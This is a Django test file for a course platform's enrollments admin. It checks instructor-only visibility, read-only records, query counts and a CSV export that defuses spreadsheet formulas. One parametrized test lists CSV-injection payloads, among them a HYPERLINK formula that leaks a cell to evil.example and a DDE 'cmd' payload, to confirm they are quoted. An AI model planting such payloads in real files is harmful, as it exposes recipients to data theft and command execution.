"""Enrollments in the admin: instructors see their own courses' learners, staff see all;
a CSV export of progress that spreadsheets cannot turn into formulas."""

import csv
import io

import pytest

from accounts.tests.factories import UserFactory
from courses.tests.factories import Cast, CourseFactory, course_with_lessons
from enrollments.models import Enrollment
from enrollments.tests.factories import EnrollmentFactory, LessonProgressFactory

pytestmark = pytest.mark.django_db

ENROLLMENTS = "/admin/enrollments/enrollment/"


@pytest.fixture
def cast():
    return Cast()


@pytest.fixture
def world(cast):
    own = course_with_lessons(slug="own", title="Own Course", lessons_per_module=4, instructors=[cast.owner])
    theirs = course_with_lessons(
        slug="theirs", title="Their Secret Draft", draft=True, instructors=[cast.other_instructor]
    )
    mine = EnrollmentFactory(user=cast.learner, course=own)
    LessonProgressFactory(enrollment=mine, lesson=own.lessons.first())
    return {
        "own": own,
        "theirs": theirs,
        "mine": mine,
        "other": EnrollmentFactory(user=cast.other_learner, course=own),
        "foreign": EnrollmentFactory(user=cast.learner, course=theirs),
    }


def _rows(client, **params) -> list[Enrollment]:
    response = client.get(ENROLLMENTS, params)
    assert response.status_code == 200
    return list(response.context["cl"].result_list)


def test_an_instructor_sees_the_learners_of_their_courses_only(client, cast, world):
    client.force_login(cast.owner)
    assert {e.pk for e in _rows(client)} == {world["mine"].pk, world["other"].pk}
    assert client.get(f"{ENROLLMENTS}{world['foreign'].pk}/change/").status_code == 302


def test_the_course_filter_never_names_another_instructors_course(client, cast, world):
    client.force_login(cast.owner)
    page = client.get(ENROLLMENTS)
    assert b"Their Secret Draft" not in page.content
    assert b"Own Course" in page.content


def test_staff_see_every_enrollment_and_can_filter_and_search(client, cast, world):
    client.force_login(cast.staff)
    assert len(_rows(client)) == 3
    assert {e.pk for e in _rows(client, course__id__exact=world["own"].pk)} == {world["mine"].pk, world["other"].pk}
    assert {e.pk for e in _rows(client, q=cast.other_learner.email)} == {world["other"].pk}


def test_the_list_shows_progress_in_required_lessons(client, cast, world):
    client.force_login(cast.owner)
    content = client.get(ENROLLMENTS).content.decode()
    assert "1/4" in content and "0/4" in content


@pytest.mark.parametrize("role", ["anonymous", "learner"])
def test_learners_and_visitors_cannot_open_it(client, cast, world, role):
    if cast[role] is not None:
        client.force_login(cast[role])
    response = client.get(ENROLLMENTS)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_learning_records_are_read_only_in_the_admin(client, cast, world):
    client.force_login(cast.staff)
    assert client.get(f"{ENROLLMENTS}add/").status_code == 403
    assert client.post(f"{ENROLLMENTS}{world['mine'].pk}/delete/", {"post": "yes"}).status_code == 403
    client.post(f"{ENROLLMENTS}{world['mine'].pk}/change/", {"status": "completed"})
    assert Enrollment.objects.get(pk=world["mine"].pk).status == "active"


def _export(client, *enrollments) -> list[list[str]]:
    response = client.post(ENROLLMENTS, {"action": "export_csv", "_selected_action": [e.pk for e in enrollments]})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="enrollments.csv"'
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_csv_export_has_a_row_per_selected_enrollment_with_progress(client, cast, world):
    client.force_login(cast.owner)
    rows = _export(client, world["mine"], world["other"])
    assert rows[0] == [
        "email",
        "name",
        "course",
        "status",
        "percent",
        "enrolled_at",
        "completed_at",
        "last_activity_at",
    ]
    by_email = {row[0]: row for row in rows[1:]}
    assert set(by_email) == {cast.learner.email, cast.other_learner.email}
    assert by_email[cast.learner.email][2:5] == ["Own Course", "active", "25"]
    assert by_email[cast.other_learner.email][4] == "0"


def test_csv_export_never_includes_another_instructors_learners(client, cast, world):
    client.force_login(cast.owner)
    rows = _export(client, world["mine"], world["foreign"])
    assert [row[2] for row in rows[1:]] == ["Own Course"]


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_neutralises_spreadsheet_formulas(client, cast, payload):
    course = course_with_lessons(title=payload, instructors=[cast.owner])
    EnrollmentFactory(course=course, user=UserFactory(first_name=payload, last_name=""))
    client.force_login(cast.owner)
    (row,) = _export(client, *Enrollment.objects.all())[1:]
    name, title = row[1], row[2]
    assert title == "'" + payload  # the text is kept, behind a quote that makes it text
    assert name.startswith("'") and name.endswith(payload.strip())


def test_a_learner_with_no_name_is_exported_by_email(client, cast):
    course = CourseFactory(instructors=[cast.owner])
    EnrollmentFactory(course=course, user=UserFactory(email="=cmd@example.com", first_name="", last_name=""))
    client.force_login(cast.owner)
    (row,) = _export(client, *Enrollment.objects.all())[1:]
    assert row[0] == "'=cmd@example.com"
    assert row[1] == "'=cmd"


def _queries_for_the_list(client, budget: int) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        assert client.get(ENROLLMENTS).status_code == 200
    assert len(captured) <= budget, [q["sql"][:120] for q in captured]
    return len(captured)


def test_the_learners_list_costs_the_same_queries_for_3_or_120_learners(
    client, cast, world, django_assert_max_num_queries
):
    """The list's budget is independent of its size (a page of 100 rows at most): what tier
    L's 10,000 learners a course cost on top is the count and the page's rows, not a query
    per learner (progress is an annotation, the learner's link a column)."""
    client.force_login(cast.owner)
    small = _queries_for_the_list(client, 16)
    for _ in range(117):
        enrollment = EnrollmentFactory(course=world["own"])
        LessonProgressFactory(enrollment=enrollment, lesson=world["own"].lessons.first())
    large = _queries_for_the_list(client, 16)
    assert large == small
